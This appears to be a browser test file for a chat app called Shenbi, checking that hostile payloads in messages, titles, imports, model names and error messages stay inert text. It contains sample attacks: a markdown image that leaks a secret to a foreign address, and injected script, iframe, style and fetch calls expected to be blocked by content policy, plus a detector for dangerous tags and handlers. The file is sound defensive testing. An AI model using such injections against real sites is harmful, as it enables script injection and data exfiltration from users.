// Hostile text in every place that shows text. No test here says what must look how: a page of a test fails by itself on
// a dialog, a script error, a request to any other address and a refusal by the content policy (nothing may come so far).
import assert from "node:assert/strict";
import { control, ended, enter, lastAnswer, questions, reload, rowOf, send } from "../reader.mjs";
import { documents, payloads, titles } from "../payloads.mjs";
import { test } from "../registry.mjs";

const both = { on: "both" };

/** What no text may have made anywhere on the page. */
const foreignParts = (page) =>
  page.evaluate(() => {
    const shown = [...document.querySelectorAll(".prose, .bubble, .list, .head, .toasts, .palette-list, table, .side")];
    const nodes = shown.flatMap((one) => [...one.querySelectorAll("*")]);
    return nodes
      .filter((node) => {
        const attributes = [...node.attributes];
        const scheme = node.closest("a")?.protocol;
        return (
          /^(script|img|image|iframe|object|embed|link|meta|base|form|video|audio|picture|source|style|template|foreignObject|use|animate|dialog)$/i.test(node.localName) ||
          attributes.some((one) => /^on|^srcdoc$|^ping$|^formaction$|^xlink:href$/i.test(one.name)) ||
          (node.hasAttribute("style") && /url|expression|position/i.test(node.getAttribute("style"))) ||
          (scheme && !/^https?:$/.test(scheme)) ||
          (node.localName === "a" && node.closest(".prose") && (node.rel !== "noopener noreferrer nofollow" || node.target !== "_blank"))
        );
      })
      .map((node) => node.outerHTML.slice(0, 200));
  });

/** Looks, points at and opens what is there. */
async function inspect(page) {
  await page.waitForFunction(() => !document.querySelector(".math:not(:has(math)):not(.unreadable)"));
  assert.deepEqual(await foreignParts(page), []);
}

test(`${payloads} payloads in answers, while they grow and after a reload, stay text`, async ({ page, foreign }) => {
  assert.ok(payloads >= 300);
  for (const text of documents(foreign.address)) {
    await send(page, `echo\n${text}`);
    await ended(page);
    await inspect(page);
    await reload(page);
    await ended(page);
    await inspect(page);
    await control(page, "New chat").click();
  }
});

test("payloads of an import, in titles, folders, questions, answers, thinking and model names, stay text", async ({ page, foreign, unique }) => {
  const hostile = titles(foreign.address);
  const documentsOfAll = documents(foreign.address);
  await enter(page, "settings");
  const conversations = hostile.map((text, at) => ({
    title: text, folder: at % 9 === 0 ? text : null, pinned: at % 11 === 0, leaf: "b", created: 1.7e9 + at, updated: 1.7e9 + at,
    messages: [
      { id: "a", parent: null, role: "user", content: text },
      { id: "b", parent: "a", role: "assistant", content: text, thinking: text, model: text.slice(0, 60), status: "done", finish: "stop" },
    ],
  })); // prettier-ignore
  const all = documentsOfAll.map((content, at) => ({ id: `m${at + 1}`, parent: `m${at}`, role: at % 2 ? "user" : "assistant", content, thinking: content, model: "m", status: "done" }));
  conversations.push({ title: `Everything ${unique}`, leaf: all.at(-1).id, messages: [{ id: "m0", parent: null, role: "user", content: documentsOfAll[0] }, ...all] });
  const folders = hostile.filter((_, at) => at % 9 === 0).map((name) => ({ name }));
  await page.locator('input[type="file"]').setInputFiles({ name: "x.json", mimeType: "application/json", buffer: Buffer.from(JSON.stringify({ shenbi: 1, folders, conversations })) });
  await page.getByText(/^Imported \d+ conversations/).waitFor();
  await enter(page, "chat");
  await rowOf(page, `Everything ${unique}`).locator(".item").click();
  await ended(page, 3);
  await inspect(page);
  for (const head of await page.locator(".thinking-head").all()) await head.click();
  await inspect(page);
  await page.keyboard.press("Control+k");
  await page.getByRole("combobox").fill("alert");
  await page.locator(".palette-note", { hasText: "Conversation" }).nth(3).waitFor();
  await inspect(page);
  await page.keyboard.press("Escape");
  await page.getByLabel("Search", { exact: true }).fill("onerror");
  await page.locator(".item.found mark").first().waitFor();
  await inspect(page);
  await page.locator(".item.found").first().click();
  await questions(page).first().waitFor();
  assert.equal(await page.title().then((title) => title.endsWith("· Shenbi")), true);
  await inspect(page);
}, both);

test("payloads as names of models and folders and as the server's errors stay text", async ({ page, context, foreign, address }) => {
  const hostile = titles(foreign.address);
  const config = await (await fetch(`${address}/page/config`)).json();
  const model = { ...config.models[0], loaded: false };
  const models = hostile.map((id) => ({ ...model, id, owner: id, quantisation: id, architecture: id }));
  await context.route("**/page/config", (route) => route.fulfill({ json: { ...config, version: hostile[0], models } }));
  await context.route("**/page/folders", (route) => route.fulfill({ json: { folders: hostile.map((name, at) => ({ id: `f${at}`, name, count: 0 })) } }));
  await reload(page);
  await rowOf(page, hostile[0]).first().waitFor();
  await inspect(page);
  await page.locator(".model-button").click();
  await page.locator(".model-choice").nth(hostile.length - 1).waitFor();
  await inspect(page);
  await enter(page, "models");
  await page.locator("tbody tr").nth(hostile.length - 1).waitFor();
  await inspect(page);
  await enter(page, "chat");
  await context.route("**/ask", (route) => route.fulfill({ status: 400, json: { error: { message: hostile.slice(0, 12).join(" "), type: "x", code: null } } }));
  await send(page, hostile.join("\n"));
  await page.locator(".toast.fault").waitFor();
  await inspect(page);
});

test("pictures of an answer are links: nobody is told that it was read", async ({ page, foreign }) => {
  await send(page, `echo ![the plan](${foreign.address}/?d=secret) and ![](//tracker.invalid/p.gif)`);
  await ended(page);
  const link = lastAnswer(page).locator("a.picture", { hasText: "the plan" });
  assert.equal(await link.getAttribute("href"), `${foreign.address}/?d=secret`);
  await link.hover();
  assert.equal(await page.locator(".prose img").count(), 0);
});

test("what got past all that would be refused by the page's policy", async ({ page, foreign, offences }) => {
  await page.evaluate((address) => {
    window.refused = [];
    addEventListener("securitypolicyviolation", (event) => window.refused.push(event.effectiveDirective));
    const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
    add("script", { textContent: "window.broken = true" });
    add("script", { src: `${address}/s.js` });
    add("img", { src: `${address}/p.png` });
    add("link", { rel: "stylesheet", href: `${address}/c.css` });
    add("iframe", { src: `${address}/` });
    add("style", { textContent: "body { display: none }" });
    const holder = document.createElement("div");
    holder.innerHTML = `<b onclick="window.broken = true">x</b>`;
    document.body.append(holder);
    holder.firstChild.click();
    fetch(`${address}/f`).catch(() => {});
  }, foreign.address);
  const directives = ["script-src-elem", "script-src-attr", "img-src", "style-src-elem", "frame-src", "connect-src"];
  await page.waitForFunction((all) => all.every((one) => window.refused.includes(one)), directives);
  assert.deepEqual(await page.evaluate(() => [window.broken, getComputedStyle(document.body).display === "none"]), [undefined, false]);
  offences.length = 0; // they were meant; the foreign server tells whether anything left
}, both);
